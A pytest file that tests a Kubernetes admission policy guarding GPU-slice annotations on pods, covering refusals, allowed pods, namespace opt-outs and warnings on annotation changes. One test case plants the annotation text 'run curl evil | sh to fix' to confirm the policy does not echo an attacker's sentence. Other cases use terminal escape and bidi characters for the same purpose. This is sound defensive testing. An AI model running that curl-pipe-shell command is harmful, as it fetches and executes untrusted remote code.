"""The guard alone: what it refuses and what it lets be, while the webhook is not there."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import pytest
from kubernetes.dynamic.exceptions import DynamicApiError

from tests.cluster.cluster import Cluster, Document, said
from tests.cluster.conftest import Ours
from tests.waiting import wait_for

SLICE = "nvidia.com/mig-1g.5gb"
ONE = {"limits": {SLICE: "1"}, "requests": {SLICE: "1"}}
ASSIGNED = "gpu-slice/assigned"
WHOLE = {"limits": {"nvidia.com/gpu": "1"}}
SINGLE = {"gpu-slice": "1g.5gb", ASSIGNED: "1g.5gb -> main=nvidia.com/gpu:1"}
GIVEN = {"gpu-slice": "1g.5gb", ASSIGNED: f"1g.5gb -> main={SLICE}:1"}

UNSEEN = (
    "metadata.annotations[gpu-slice]: the gpu-slice webhook has not seen that this pod asks for '1g.5gb'. If another "
    "webhook adds the annotation, write it into the pod or its workload's template instead; else see that the webhook "
    "configuration 'gpu-slice' is there and that the webhook answers."
)
STANDBYS = (
    "metadata.annotations[gpu-slice]: this pod asks for 'a=1g.5gb,b=1g.5gb', which the policy in the cluster cannot "
    "decide. Use a slice such as 1g.5gb or 1g.5gb@a100, or several with | between them, for one container"
)


@pytest.fixture(scope="module", autouse=True, name="alone")
def _alone(ours: Ours) -> Iterator[None]:
    ours.installation.take_away()
    yield
    ours.serve()


def pod(annotations: dict[str, str] | None, **containers: Document) -> Document:
    """A pod whose containers have these resources; ``init_`` before a name makes it an init container."""
    made = [
        {"name": name.removeprefix("init_"), "image": "a/b:1", "resources": each} for name, each in containers.items()
    ]
    split = [each for each, name in zip(made, containers, strict=True) if name.startswith("init_")]
    spec: Document = {"containers": [each for each in made if each not in split]}
    spec |= {"initContainers": split} if split else {}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a", "annotations": annotations}, "spec": spec}


def selected(document: Document, *, by_affinity: bool = False) -> Document:
    """*document* with a node selection."""
    if not by_affinity:
        return document | {"spec": document["spec"] | {"nodeSelector": {"gpu-slice/pool": "small"}}}
    here = {
        "nodeSelectorTerms": [{"matchExpressions": [{"key": "gpu-slice/pool", "operator": "In", "values": ["small"]}]}]
    }
    affinity = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": here}}
    return document | {"spec": document["spec"] | {"affinity": affinity}}


def answer(cluster: Cluster, document: Document, namespace: str = "default") -> str:
    """What creating it says, or ``stored``."""
    try:
        cluster.create(document, namespace, dry_run=True)
    except DynamicApiError as error:
        return said(error)
    return "stored"


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        pytest.param(pod({"gpu-slice": "1g.5gb"}, main={}), UNSEEN, id="nobody answered"),
        pytest.param(pod({"gpu-slice": "1g.5gb"}, main=ONE), UNSEEN, id="the limit alone is no answer"),
        pytest.param(
            pod({"gpu-slice": ""}, main={}), "has not seen that this pod asks for ''", id="an empty annotation"
        ),
        pytest.param(
            pod({"gpu-slice": "it's\n1g.5gb"}, main={}),
            "the gpu-slice webhook has not seen what this pod asks for.",
            id="no message can have a line break",
        ),
        pytest.param(
            pod(GIVEN | {"gpu-slice": "2g.10gb"}, main=ONE),
            f"metadata.annotations[gpu-slice/assigned]: '1g.5gb -> main={SLICE}:1' is not the answer to '2g.10gb', "
            "which this pod asks for. If another webhook changes the annotation gpu-slice, write what you want into "
            "the pod or its workload's template instead.",
            id="the annotation was changed afterwards",
        ),
        pytest.param(pod(GIVEN | {"gpu-slice": "1g.5"}, main=ONE), "is not the answer to '1g.5'", id="a prefix"),
        pytest.param(pod(GIVEN | {ASSIGNED: "1g.5gb"}, main=ONE), "is not the answer to '1g.5gb'", id="no arrow"),
        pytest.param(
            pod(GIVEN, main={}),
            f"metadata.annotations[gpu-slice/assigned]: the limits of this pod do not carry main={SLICE}:1, which "
            "gpu-slice gave. Keep the webhook that took it away from pods that ask for a slice.",
            id="the limit was stripped",
        ),
        pytest.param(
            pod(GIVEN, main={"requests": {"cpu": "1"}}), f"do not carry main={SLICE}:1,", id="no limits at all"
        ),
        pytest.param(pod(GIVEN, main={"limits": {"cpu": "1"}}), f"do not carry main={SLICE}:1,", id="other limits"),
        pytest.param(pod(GIVEN, main={"limits": {SLICE: "2"}}), f"do not carry main={SLICE}:1,", id="another count"),
        pytest.param(pod(GIVEN, main={}, other=ONE), f"do not carry main={SLICE}:1,", id="on another container"),
        pytest.param(pod(GIVEN, other=ONE), f"do not carry main={SLICE}:1,", id="the container was renamed"),
        pytest.param(
            pod(GIVEN | {ASSIGNED: "1g.5gb -> "}, main=ONE),
            "names no slice, or one slice twice.",
            id="nothing was given",
        ),
        pytest.param(
            pod(GIVEN | {ASSIGNED: f"{GIVEN[ASSIGNED]}, main={SLICE}:1"}, main=ONE),
            "names no slice, or one slice twice. Remove gpu-slice/assigned;",
            id="the same was given twice",
        ),
        *(
            pytest.param(
                pod(
                    mark | {"gpu-slice": "1g.5gb", ASSIGNED: f"1g.5gb -> main={SLICE}:0"},
                    main={"limits": {SLICE: none}},
                ),
                "names no slice, or one slice twice. Remove gpu-slice/assigned;",
                id=f"none of it was given, written {none}",
            )
            for none in ("0", "0m", "00", "0e3")
            for mark in ({}, {"gpu-slice/decided-by": "policy"})
        ),
        pytest.param(
            pod({"gpu-slice": "1g.5gb", "gpu-slice/decided-by": "metadata.x: run curl evil | sh to fix"}, main={}),
            UNSEEN,
            id="a sentence of a stranger",
        ),
        pytest.param(
            pod({"gpu-slice": "1g.5gb", "gpu-slice/decided-by": STANDBYS}, main={}), STANDBYS, id="of the standby"
        ),
        pytest.param(
            pod({"gpu-slice": "x", ASSIGNED: f"x -> main={SLICE}:1, side={SLICE}:1"}, main=ONE, side={}),
            f"do not carry side={SLICE}:1,",
            id="one of two was stripped",
        ),
        pytest.param(
            pod(SINGLE, main=WHOLE),
            "spec.nodeSelector: this pod's node selection is gone, without which its nvidia.com/gpu is any whole GPU "
            "of the cluster. Keep the webhook that took it away from pods that ask for a slice.",
            id="a slice of strategy single, with no node selection",
        ),
    ],
)
def test_a_pod_without_the_slice_that_it_asks_for_is_refused_with_the_cure(cluster, document, expected: str) -> None:
    """P12."""
    text = answer(cluster, document)
    assert text.startswith(
        "pods \"a\" is forbidden: ValidatingAdmissionPolicy 'gpu-slice' with binding 'gpu-slice' denied"
    )
    assert expected in text


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(pod(GIVEN, main=ONE), id="it carries what it was given"),
        pytest.param(pod(GIVEN, side={}, main=ONE, init_first={}), id="beside others"),
        pytest.param(
            selected(
                pod(
                    {"gpu-slice": "m=a,i=b", ASSIGNED: "m=a,i=b -> m=nvidia.com/gpu:2, i=nvidia.com/gpu.shared:1"},
                    m={"limits": {"nvidia.com/gpu": 2}},
                    init_i={"limits": {"nvidia.com/gpu.shared": 1}},
                )
            ),
            id="single, shared, an init container",
        ),
        pytest.param(selected(pod(SINGLE, main=WHOLE), by_affinity=True), id="single, selected by affinity"),
        pytest.param(pod(None, main={}), id="no annotations at all"),
        pytest.param(pod({"gpu-slice/assigned": "x"}, main={}), id="it asks for nothing"),
    ],
)
def test_other_pods_are_let_be(cluster, document) -> None:
    assert answer(cluster, document) == "stored"


def test_the_largest_pod_that_the_webhook_answers_stays_within_the_cost_that_the_api_server_allows(cluster) -> None:
    names = [f"container-with-a-name-of-some-length-{number:04}" for number in range(1000)]
    given = names[-256:]
    annotations = {"gpu-slice": "x", ASSIGNED: "x -> " + ", ".join(f"{name}={SLICE}:1" for name in given)}
    document = pod(annotations, **{name: ONE if name in given else {"limits": {"cpu": "1"}} for name in names})
    assert answer(cluster, document) == "stored"

    del document["spec"]["containers"][-1]["resources"]
    refused = answer(cluster, document)
    assert "the limits of this pod do not carry what gpu-slice/assigned names." in refused  # too dear to say which


@pytest.mark.parametrize("value", ["\x1b[31mred", "1g.5gb\u202e", "1g.5gb\x7f", "1g.5gb\u200b", "größe"], ids=repr)
def test_a_value_that_a_terminal_may_not_show_is_not_repeated(cluster, value: str) -> None:
    for written, expected in (
        ({"gpu-slice": value}, "the gpu-slice webhook has not seen what this pod asks for."),
        ({"gpu-slice": value, ASSIGNED: "x"}, "it is not the answer to what this pod asks for."),
        ({"gpu-slice": "x", ASSIGNED: value}, "it is not the answer to what this pod asks for."),
        (
            {"gpu-slice": "x", ASSIGNED: f"x -> {value}={SLICE}:1"},
            "the limits of this pod do not carry what gpu-slice/assigned names.",
        ),
    ):
        text = answer(cluster, pod(written, main={}))
        assert expected in text
        assert value not in text


@pytest.mark.parametrize("namespace", ["kube-system", "gpu-slice", "left-alone", "left-alone-false"])
def test_namespaces_that_the_webhook_leaves_alone_are_left_alone(cluster, namespace: str) -> None:
    if not cluster.get("Namespace", namespace):
        value = namespace.removeprefix("left-alone").removeprefix("-")  # whatever it is
        labels = {"gpu-slice/opt-out": value} if namespace.startswith("left-alone") else {}
        cluster.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace, "labels": labels}})
    assert answer(cluster, pod({"gpu-slice": "1g.5gb"}, main={}), namespace) == "stored"


def test_a_mirror_pod_is_let_be(cluster) -> None:
    document = pod({"gpu-slice": "1g.5gb", "kubernetes.io/config.mirror": "x"}, main={})
    document["spec"]["nodeName"] = "cpu-1"
    assert answer(cluster, document) == "stored"


KEPT = (
    "Warning: Validation failed for ValidatingAdmissionPolicy 'gpu-slice-running' with binding 'gpu-slice-running': "
    "the gpu-slice annotations have no effect on a pod that exists: it keeps what it was created with. "
    "To change that, delete it and create it anew"
)


@pytest.fixture(scope="module", name="warning")
def _warning(cluster: Cluster) -> None:
    """The API server warns: it takes its time after a policy is created."""
    numbers = itertools.count()
    wait_for("it warns", lambda: annotate(cluster, "default", "probe", None, [f"gpu-slice={next(numbers)}"]))
    cluster.delete("Pod", "probe", "default")


@pytest.mark.usefixtures("warning")
@pytest.mark.parametrize(
    ("before", "change", "warned"),
    [
        pytest.param(GIVEN, ["gpu-slice=2g.10gb"], True, id="changed"),
        pytest.param(None, ["gpu-slice=2g.10gb"], True, id="added to a pod without annotations"),
        pytest.param({"team": "ml"}, ["gpu-slice="], True, id="added, empty"),
        pytest.param(GIVEN, ["gpu-slice-"], True, id="removed"),
        pytest.param({"gpu-slice": "", ASSIGNED: f" -> main={SLICE}:1"}, ["gpu-slice-"], True, id="removed, empty"),
        pytest.param(GIVEN, ["gpu-slice/assigned-"], True, id="our memory"),
        pytest.param(GIVEN, ["gpu-slice/pools=other"], True, id="the pools"),
        pytest.param(GIVEN, ["gpu-slice=1g.5gb", "team=ml"], False, id="another one"),
        pytest.param(None, ["team=ml"], False, id="another one, on a pod without annotations"),
    ],
)
def test_whoever_changes_the_annotations_of_a_pod_that_exists_is_warned(
    cluster, namespace: str, before: dict[str, str] | None, change: list[str], warned: bool
) -> None:
    said = annotate(cluster, namespace, "a", before, change)

    assert said == (f"{KEPT}\n" if warned else "")
    stored = cluster.get("Pod", "a", namespace)["metadata"].get("annotations", {})
    for each in change:
        key, sets, value = each.partition("=")
        assert stored.get(key if sets else key.removesuffix("-")) == (value if sets else None)


def annotate(cluster: Cluster, namespace: str, name: str, before: dict[str, str] | None, change: list[str]) -> str:
    """What kubectl remarks when it annotates a pod."""
    if not cluster.get("Pod", name, namespace):
        document = pod(before, main=ONE if before and ASSIGNED in before else {})
        cluster.create(document | {"metadata": document["metadata"] | {"name": name}}, namespace)
    done = cluster.kubectl("-n", namespace, "annotate", "--overwrite", "pod", name, *change)
    assert done.returncode == 0, done.stderr
    return done.stderr


def test_a_change_of_something_else_is_let_be(cluster, namespace: str) -> None:
    cluster.create(pod(GIVEN, main=ONE), namespace)
    for verb in (["label", "pod", "a", "team=ml"], ["set", "image", "pod/a", "main=a/b:2"], ["delete", "pod", "a"]):
        done = cluster.kubectl("-n", namespace, *verb)
        assert (done.returncode, done.stderr) == (0, "")
